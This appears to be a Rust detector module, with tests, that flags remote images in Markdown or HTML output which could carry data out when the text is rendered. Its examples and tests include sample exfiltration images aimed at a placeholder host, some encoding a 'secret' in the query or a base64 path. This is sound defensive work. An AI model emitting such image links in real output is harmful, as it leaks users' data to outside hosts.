//! Pictures in Markdown or HTML that are fetched when the text is shown: their address goes to whoever it names, with what stands in it.

use super::{OWASP, url};
use crate::{
    detector::{About, Detector, Family, Match, Prefilter, native},
    finding::Confidence,
};

pub(super) static DETECTOR: Detector = Detector {
    id: "output.markdown_image",
    title: "Picture from elsewhere",
    label: "[PICTURE]",
    pattern: r#"(?:!\[[^\]\n]{0,300}\]\([ \t]{0,4}<?|<(?i:img)[ \t\r\n/][^<>]{0,300}(?i:src)[ \t]{0,4}=[ \t]{0,4}["']?)(?i:https?:)?//[^ \t\r\n"'<>()]{3,2000}"#,
    prefilter: Prefilter::Name(&["![", "<img"]),
    value: |text| {
        text.find("//").map_or(0, |slashes| {
            let scheme = text.get(..slashes).unwrap_or_default().to_ascii_lowercase();
            let length = ["https:", "http:"]
                .into_iter()
                .find(|s| scheme.ends_with(s))
                .map_or(0, str::len);
            slashes - length
        })
    },
    validate,
    about: native(&About {
        validator: "surer the more its address carries: a query of a few characters, a long part that is no word",
        notes: "A picture whose address carries nothing is one with the lowest confidence: it tells no more than that the text was shown.",
        finds: &[
            "![ok](‹https://x.example/p.png?d=the+secret+is+42›)",
            "![](‹//x.example/c2VjcmV0IHZhbHVlIGdvZXMgaGVyZQ.png›)",
            "<img width=1 src=\"‹http://x.example/?q=abcdefgh›\">",
            "![logo](‹https://example.com/logo.png›)",
        ],
        ignores: &[
            "![logo](/static/logo.png)",
            "![x](data:image/png;base64,AA)",
            "[link](https://example.com/)",
        ],
        sources: &[OWASP, "https://spec.commonmark.org/0.31.2/#images"],
    }),
    ..Detector::of(Family::Output)
};

fn validate(candidate: &Match<'_>) -> Option<Confidence> {
    let address = candidate.text.get((DETECTOR.value)(candidate.text)..)?;
    Some(match url::carries(address) {
        0 => Confidence::Low,
        1..8 => Confidence::Medium,
        _ => Confidence::High,
    })
}

#[cfg(test)]
mod tests {
    use super::DETECTOR;
    use crate::proof::{finds, ignores, rates};

    #[test]
    fn finds_what_is_fetched() {
        finds!(DETECTOR, "![a b](<https://x.example/?q=1>)" => "https://x.example/?q=1");
        rates!(DETECTOR,
            "![](https://x.example/a.png)" => Low,
            "![](https://x.example/a.png?v=2)" => Medium,
            "![](https://x.example/?d=name%3Dann%20card)" => High,
        );
    }

    #[test]
    fn ignores_ones_own() {
        ignores!(
            DETECTOR,
            "![a](img/b.png)",
            "<img src='/a.png'>",
            "! [a](https://x.example)"
        );
    }
}
